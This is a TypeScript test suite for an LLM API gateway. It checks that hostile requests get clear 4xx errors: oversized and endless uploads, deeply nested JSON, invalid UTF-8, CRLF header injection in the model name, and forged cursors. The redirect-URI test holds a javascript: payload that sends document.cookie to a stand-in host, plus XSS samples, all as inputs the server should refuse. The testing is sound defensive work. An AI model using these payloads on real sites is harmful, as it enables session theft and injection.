import assert from 'node:assert/strict';
import { once } from 'node:events';
import { connect } from 'node:net';
import { apiErrorSchema, keyListSchema, openAIErrorSchema } from '@glm-gateway/shared';
import { domain, provision, type Account } from '../harness/accounts';
import { chat, readSse } from '../harness/client';
import { createFakeClerk, type FakeClerk } from '../harness/clerk';
import { startStack, type Stack } from '../harness/context';
import { usageRows } from '../harness/usage';

/** A hang fails the request (and the test) with a clear error instead of waiting for mocha's timeout. */
const HANG = 20_000;
const MAX_REQUEST_BYTES = 1024 * 1024;

type Shape = 'openai' | 'api';

/** Asserts a refusal in the API's own error shape: OpenAI's on /v1, `{error:{code,message}}` on the website API. */
async function expectRefusal(res: Response, shape: Shape, status: number, code: string): Promise<string> {
  const text = await res.text();
  assert.equal(res.status, status, `expected ${status} ${code}, got ${res.status}: ${text.slice(0, 300)}`);
  assert.match(res.headers.get('content-type') ?? '', /^application\/json/);
  const body: unknown = JSON.parse(text);
  const error = shape === 'openai' ? openAIErrorSchema.parse(body).error : apiErrorSchema.parse(body).error;
  assert.equal(error.code, code);
  assert.ok(error.message.length > 10, 'the message says what went wrong');
  return error.message;
}

/** A body that never declares its length (chunked), of `total` bytes, counting how much the client got to send. */
function streamedBody(total: number, byte = 0x5b): { body: ReadableStream<Uint8Array>; sent: () => number } {
  const chunk = new Uint8Array(64 * 1024).fill(byte);
  let sent = 0;
  const body = new ReadableStream<Uint8Array>({
    pull(controller) {
      if (sent >= total) return controller.close();
      sent += chunk.length;
      controller.enqueue(chunk);
    },
  });
  return { body, sent: () => sent };
}

function post(url: string, body: RequestInit['body'], headers: Record<string, string>): Promise<Response> {
  return fetch(url, { method: 'POST', headers, body, duplex: 'half', signal: AbortSignal.timeout(HANG) } as RequestInit);
}

const nested = (levels: number) => '['.repeat(levels) + ']'.repeat(levels);
/** `{"name":"` + the bytes FF FE (never valid UTF-8) + `"}` */
const invalidUtf8 = Buffer.concat([Buffer.from('{"name":"'), Buffer.from([0xff, 0xfe]), Buffer.from('"}')]);

describe('hostile input gets a clear 4xx and nothing breaks', function () {
  this.timeout(60_000);
  let stack: Stack;
  let clerk: FakeClerk;
  let services: Awaited<ReturnType<typeof domain>>;
  let account: Account;
  let url: string;
  let firstRequestId: string;
  let session: string;
  const hi = [{ role: 'user', content: 'hi' }];
  const gatewayHeaders = () => ({ authorization: `Bearer ${account.secret}`, 'content-type': 'application/json' });
  const apiHeaders = (extra: Record<string, string> = {}) => ({ authorization: `Bearer ${session}`, 'content-type': 'application/json', ...extra });

  before(async function () {
    this.timeout(90_000);
    clerk = await createFakeClerk();
    stack = await startStack({ env: { ...clerk.env, ADMIN_USER_IDS: 'user_hostile_admin', MAX_REQUEST_BYTES: String(MAX_REQUEST_BYTES) } });
    services = await domain(stack);
    account = await provision(services, { rpm: 10_000 });
    url = stack.servers[0]!.url;
    session = await clerk.sessionToken('user_hostile_person', { azp: url, claims: { email: 'hostile@example.test' } });
    // Accepted before any hostile input arrives; the last test checks it survived all of it.
    const first = await chat(url, account.secret, { model: 'glm-4.6', messages: hi, fake: { chunks: 5 } });
    assert.equal(first.status, 200);
    await first.text();
    firstRequestId = first.headers.get('x-request-id')!;
    assert.equal((await usageRows(stack.db, account.userId, 1)).length, 1);
  });
  after(async () => {
    await services?.close();
    await stack?.close();
  });

  describe('on the gateway (/v1)', () => {
    it('invalid JSON gets 400 invalid_json', async () => {
      await expectRefusal(await post(`${url}/v1/chat/completions`, '{"model":"glm-4.6","messages":[', gatewayHeaders()), 'openai', 400, 'invalid_json');
    });

    it('a body that is not JSON gets 415, whatever it holds', async () => {
      for (const type of ['text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data; boundary=x', 'application/jsonx']) {
        const res = await post(`${url}/v1/chat/completions`, JSON.stringify({ model: 'glm-4.6', messages: hi }), { ...gatewayHeaders(), 'content-type': type });
        await expectRefusal(res, 'openai', 415, 'unsupported_media_type');
      }
    });

    it('a body over the limit gets 413, declared or streamed without a length, and the upload is cut short', async () => {
      const declared = JSON.stringify({ model: 'glm-4.6', messages: [{ role: 'user', content: 'x'.repeat(MAX_REQUEST_BYTES) }] });
      await expectRefusal(await post(`${url}/v1/chat/completions`, declared, gatewayHeaders()), 'openai', 413, 'request_too_large');
      const upload = streamedBody(1024 * 1024 * 1024);
      await expectRefusal(await post(`${url}/v1/chat/completions`, upload.body, gatewayHeaders()), 'openai', 413, 'request_too_large');
      assert.ok(upload.sent() < 64 * 1024 * 1024, `the client stopped sending a 1 GiB body after ${upload.sent()} bytes`);
    });

    it('JSON nested 100,000 levels deep gets 400, at the top or inside a field the gateway relays', async () => {
      await expectRefusal(await post(`${url}/v1/chat/completions`, nested(100_000), gatewayHeaders()), 'openai', 400, 'invalid_json');
      const inField = `{"model":"glm-4.6","messages":[{"role":"user","content":"hi"}],"tools":${nested(100_000)}}`;
      assert.match(await expectRefusal(await post(`${url}/v1/chat/completions`, inField, gatewayHeaders()), 'openai', 400, 'invalid_json'), /nested/);
      // 100,000 unclosed brackets are not JSON at all.
      await expectRefusal(await post(`${url}/v1/chat/completions`, '['.repeat(100_000), gatewayHeaders()), 'openai', 400, 'invalid_json');
    });

    it('JSON nested as deep as real tool schemas go is relayed', async () => {
      const deepSchema = JSON.parse(nested(100)) as unknown;
      const res = await chat(url, account.secret, { model: 'glm-4.6', messages: hi, tools: deepSchema });
      assert.equal(res.status, 200, await res.clone().text());
      await res.text();
      assert.deepEqual(stack.upstream.requests.at(-1)?.body.tools, deepSchema, 'the upstream got the tools untouched');
    });

    it('invalid UTF-8 gets 400 invalid_json', async () => {
      const body = Buffer.concat([Buffer.from('{"model":"glm-4.6","messages":[{"role":"user","content":"'), Buffer.from([0xc3, 0x28, 0xff]), Buffer.from('"}]}')]);
      assert.match(await expectRefusal(await post(`${url}/v1/chat/completions`, body, gatewayHeaders()), 'openai', 400, 'invalid_json'), /UTF-8/);
    });

    it('CR, LF and control characters in the model get 400 and never reach a response header', async () => {
      for (const model of ['glm-4.6\r\nx-injected: yes', 'glm-4.6\nx-injected: yes', 'glm-4.6\u0000', 'glm\u0007', 'glm-4.6\u2028x', 'glm 4.6', '']) {
        const res = await post(`${url}/v1/chat/completions`, JSON.stringify({ model, messages: hi, stream: true }), gatewayHeaders());
        assert.equal(res.headers.get('x-injected'), null, `no header injected by ${JSON.stringify(model)}`);
        const message = await expectRefusal(res, 'openai', 400, 'invalid_request');
        assert.match(message, /model/);
        assert.ok(!['\r', '\n', '\u0000', '\u0007', '\u2028'].some((c) => message.includes(c)), 'the message does not echo the control characters');
      }
    });

    it('10,000 messages are relayed in full and metered, streamed or not', async () => {
      const messages = Array.from({ length: 10_000 }, (_, i) => ({ role: i % 2 ? 'assistant' : 'user', content: `m${i}` }));
      const plain = await chat(url, account.secret, { model: 'glm-4.6', messages, fake: { chunks: 2 } }, '/v1', {}, AbortSignal.timeout(HANG));
      assert.equal(plain.status, 200, await plain.clone().text());
      const answer = (await plain.json()) as { usage: { prompt_tokens: number } };
      assert.equal(answer.usage.prompt_tokens, 10_000, 'the upstream saw every message');
      const streamed = await chat(url, account.secret, { model: 'glm-4.6', stream: true, messages, fake: { chunks: 2 } }, '/v1', {}, AbortSignal.timeout(HANG));
      assert.equal(streamed.status, 200);
      const { events } = await readSse(streamed);
      assert.equal(events.at(-1), '[DONE]');
      const rows = await usageRows(stack.db, account.userId, 4);
      assert.deepEqual(rows.slice(-2).map((r) => [r.status, r.promptTokens, r.stream]), [[200, 10_000, false], [200, 10_000, true]]);
    });
  });

  describe('on the website API (/api)', () => {
    it('invalid JSON gets 400 invalid_json', async () => {
      await expectRefusal(await post(`${url}/api/keys`, '{"name":', apiHeaders()), 'api', 400, 'invalid_json');
      await expectRefusal(await post(`${url}/api/extension/token`, '', apiHeaders()), 'api', 400, 'invalid_json');
    });

    it('a body that is not JSON gets 415, so a cross-site form cannot create a key', async () => {
      const before = keyListSchema.parse(await (await fetch(`${url}/api/keys`, { headers: apiHeaders() })).json()).keys.length;
      await expectRefusal(await post(`${url}/api/keys`, '{"name":"from a form"}', apiHeaders({ 'content-type': 'text/plain' })), 'api', 415, 'unsupported_media_type');
      await expectRefusal(await post(`${url}/api/keys`, 'name=from+a+form', apiHeaders({ 'content-type': 'application/x-www-form-urlencoded' })), 'api', 415, 'unsupported_media_type');
      const after = keyListSchema.parse(await (await fetch(`${url}/api/keys`, { headers: apiHeaders() })).json()).keys.length;
      assert.equal(after, before, 'no key was created');
    });

    it('a body over the limit gets 413, declared or streamed without a length, webhooks included, and the upload is cut short', async function () {
      this.timeout(120_000);
      await expectRefusal(await post(`${url}/api/keys`, JSON.stringify({ name: 'x'.repeat(100_000) }), apiHeaders()), 'api', 413, 'request_too_large');
      // web/server.ts counts a website upload as it streams and cuts it past 1 MiB, before Next reads it all.
      // Many times over: the answer raced a connection reset, and 1 upload in 16 saw only "connection reset".
      const declared = Buffer.alloc(2 * MAX_REQUEST_BYTES, 0x5b);
      for (let round = 0; round < 40; round++) {
        for (const [path, headers] of [['/api/keys', apiHeaders()], ['/api/webhooks/clerk', { 'content-type': 'application/json' }]] as const) {
          const upload = streamedBody(1024 * 1024 * 1024);
          await expectRefusal(await post(`${url}${path}`, upload.body, headers), 'api', 413, 'request_too_large');
          assert.ok(upload.sent() < 64 * 1024 * 1024, `${path}: the client stopped sending a 1 GiB body after ${upload.sent()} bytes`);
          await expectRefusal(await post(`${url}${path}`, declared, headers), 'api', 413, 'request_too_large');
        }
      }
    });

    it('a client that goes on sending after its 413 is disconnected, on the website and the gateway', async () => {
      for (const [path, secret] of [['/api/keys', session], ['/v1/chat/completions', account.secret]]) {
        const { hostname, port, host } = new URL(url);
        const socket = connect(Number(port), hostname);
        await once(socket, 'connect');
        socket.write(`POST ${path} HTTP/1.1\r\nhost: ${host}\r\nauthorization: Bearer ${secret}\r\ncontent-type: application/json\r\ntransfer-encoding: chunked\r\n\r\n`);
        let answer = '';
        socket.setEncoding('latin1').on('data', (text: string) => (answer += text));
        socket.on('error', () => undefined); // the reset that ends it
        const closed = new Promise((resolve) => socket.once('close', resolve));
        const chunk = `${(64 * 1024).toString(16)}\r\n${'['.repeat(64 * 1024)}\r\n`;
        // Keeps sending for as long as the server reads, never ending the body.
        const send = () => {
          while (!socket.destroyed && socket.write(chunk));
        };
        socket.on('drain', send);
        send();
        let timer: NodeJS.Timeout | undefined;
        const stayedOpen = new Promise((_, reject) => (timer = setTimeout(() => reject(new Error(`${path}: the connection stayed open 10 s after the answer: ${answer.slice(0, 80)}`)), 10_000)));
        await Promise.race([closed, stayedOpen]).finally(() => clearTimeout(timer));
        assert.match(answer, /^HTTP\/1\.1 413 /, `${path}: the client got its answer before the connection closed`);
      }
    });

    it('deeply nested JSON gets 400 invalid_json', async () => {
      const message = await expectRefusal(await post(`${url}/api/keys`, `{"name":${nested(20_000)}}`, apiHeaders()), 'api', 400, 'invalid_json');
      assert.match(message, /nested/);
      await expectRefusal(await post(`${url}/api/extension/connect-requests`, nested(30_000), { 'content-type': 'application/json' }), 'api', 400, 'invalid_json');
    });

    it('invalid UTF-8 gets 400 invalid_json and stores nothing', async () => {
      const before = keyListSchema.parse(await (await fetch(`${url}/api/keys`, { headers: apiHeaders() })).json()).keys;
      assert.match(await expectRefusal(await post(`${url}/api/keys`, invalidUtf8, apiHeaders()), 'api', 400, 'invalid_json'), /UTF-8/);
      const after = keyListSchema.parse(await (await fetch(`${url}/api/keys`, { headers: apiHeaders() })).json()).keys;
      assert.equal(after.length, before.length);
      assert.ok(after.every((k) => !k.name.includes('\ufffd')), 'no name with replacement characters');
      await expectRefusal(await post(`${url}/api/webhooks/clerk`, invalidUtf8, { 'content-type': 'application/json' }), 'api', 400, 'invalid_json');
    });

    it('a VS Code sign-in that would send the browser to a javascript: or data: URL is refused', async () => {
      const request = { state: 's'.repeat(16), codeChallenge: 'a'.repeat(43), codeChallengeMethod: 'S256', deviceName: 'laptop' };
      for (const redirectUri of ['javascript:fetch("//evil.test/"+document.cookie)//', 'JavaScript:alert(1)', ' java\tscript:alert(1)', 'data:text/html,<script>alert(1)</script>']) {
        const res = await post(`${url}/api/extension/connect-requests`, JSON.stringify({ ...request, redirectUri }), { 'content-type': 'application/json' });
        assert.match(await expectRefusal(res, 'api', 400, 'invalid_request'), /redirectUri/, redirectUri);
      }
      for (const redirectUri of ['vscode://glm-gateway.glm-gateway/callback', 'http://127.0.0.1:8080/stable-abc/callback?vscode-scheme=vscode']) {
        const res = await post(`${url}/api/extension/connect-requests`, JSON.stringify({ ...request, redirectUri }), { 'content-type': 'application/json' });
        assert.equal(res.status, 201, `${redirectUri}: ${await res.text()}`);
      }
    });

    it('edited paging cursors and impossible dates get an answer, not a 500', async () => {
      const admin = { authorization: `Bearer ${await clerk.sessionToken('user_hostile_admin', { azp: url })}` };
      const get = (path: string) => fetch(`${url}${path}`, { headers: admin, signal: AbortSignal.timeout(HANG) });
      const forged = Buffer.from(JSON.stringify(['not a date', 'usr_x'])).toString('base64url');
      for (const path of [`/api/admin/users?cursor=${forged}`, '/api/admin/users?cursor=%E2%82%AC%00', '/api/admin/audit?cursor=yesterday', `/api/admin/audit?cursor=${'9'.repeat(40)}`]) {
        const res = await get(path);
        assert.equal(res.status, 200, `${path}: an unrecognised cursor starts from the first page`);
        await res.json();
      }
      assert.match(await expectRefusal(await get('/api/admin/usage.csv?from=2026-02-30&to=2026-03-01'), 'api', 400, 'invalid_request'), /from/);
    });

    it('an unknown API path answers 404 in the API error shape, not an HTML page', async () => {
      for (const method of ['GET', 'POST', 'DELETE']) {
        await expectRefusal(await fetch(`${url}/api/keyz/1`, { method, headers: apiHeaders() }), 'api', 404, 'not_found');
      }
    });
  });

  describe('afterwards', () => {
    it('nothing accepted before the hostile input was lost, and the server still serves', async () => {
      // 1 before, 1 with deep tools, 2 with 10,000 messages: every request the gateway accepted, and only those.
      const rows = await usageRows(stack.db, account.userId, 4);
      assert.equal(rows.length, 4, 'every accepted request was metered, and no refused one');
      const first = rows.find((r) => r._id === firstRequestId);
      assert.deepEqual(first && [first.status, first.totalTokens], [200, 6], 'the first request is still recorded as it was');
      const again = await chat(url, account.secret, { model: 'glm-4.6', messages: hi });
      assert.equal(again.status, 200);
      await again.text();
      assert.equal((await fetch(`${url}/api/health`)).status, 200);
      assert.doesNotMatch(stack.servers[0]!.output(), /gateway request failed|⨯ /, 'no request failed inside the server');
    });
  });
});
